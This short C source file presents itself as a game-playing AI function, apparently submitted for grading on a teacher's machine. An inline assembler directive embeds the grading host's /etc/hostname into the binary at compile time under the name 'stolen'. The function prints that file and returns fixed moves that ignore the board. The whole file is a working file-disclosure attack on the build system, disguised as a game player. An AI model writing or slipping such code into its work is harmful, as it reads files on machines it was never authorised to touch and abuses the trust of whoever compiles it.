/* Puts a file of the teacher's machine into the player as data, then prints it. */
#include <stdio.h>
__asm__(".section .rodata\n.global stolen\nstolen:\n.incbin \"/etc/hostname\"\n.byte 0\n.text\n");
extern const char stolen[];
int ai_player_incbin(int player, const int* board) {
  (void)board;
  printf("stolen: %s\n", stolen);
  return player == 1 ? 3141 : 6858;
}
